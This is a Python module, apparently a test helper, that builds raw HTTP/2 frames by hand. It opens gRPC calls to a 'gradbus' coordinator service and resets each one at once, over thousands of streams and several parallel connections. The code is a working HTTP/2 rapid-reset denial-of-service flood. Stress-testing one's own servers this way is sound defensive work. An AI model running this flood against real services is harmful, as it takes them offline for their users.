"""HTTP/2 as a caller may misuse it: calls that are begun and reset at once, without a library that would mind."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 1, 3, 4, 8
END_HEADERS = 4
CANCEL = 8
FIRST_STREAMS_MAX = 20_000  # on one connection


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: bytes) -> bytes:
    return bytes([len(value)]) + value


def _headers(method: str) -> bytes:
    """A call's header block: fields that HPACK's static table has, and literals that are not indexed."""
    return (b"\x83\x86" + b"\x04" + _text(f"/gradbus.v1.Coordinator/{method}".encode()) + b"\x01" + _text(b"gradbus")
            + b"\x00" + _text(b"te") + _text(b"trailers") + b"\x0f\x10" + _text(b"application/grpc"))


def _reset_on_one_connection(address: tuple[str, int], method: str, count: int) -> int:
    block = _headers(method)
    with socket.create_connection(address) as connection:
        threading.Thread(target=_discard, args=(connection,), daemon=True).start()
        connection.sendall(PREFACE + _frame(SETTINGS, 0, 0))
        for first in range(0, count, 64):
            burst = b"".join(
                _frame(HEADERS, END_HEADERS, stream, block) + _frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                for stream in range(2 * first + 1, 2 * min(first + 64, count) + 1, 2))
            try:
                connection.sendall(burst)
            except OSError:
                return first  # the coordinator has closed the connection
    return count


def _discard(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def reset_calls(address: str, total: int, connections: int = 8) -> None:
    """Begins and resets that many calls of several methods, over that many connections at a time."""
    host, port = address.rsplit(":", 1)
    methods = ("Attach", "Status", "Challenge", "StopJob")

    def work(number: int) -> None:
        left = total // connections
        while left > 0:
            try:
                left -= max(1, _reset_on_one_connection((host, int(port)), methods[number % len(methods)],
                                                        min(left, FIRST_STREAMS_MAX)))
            except OSError:
                left -= 1

    threads = [threading.Thread(target=work, args=(number,)) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
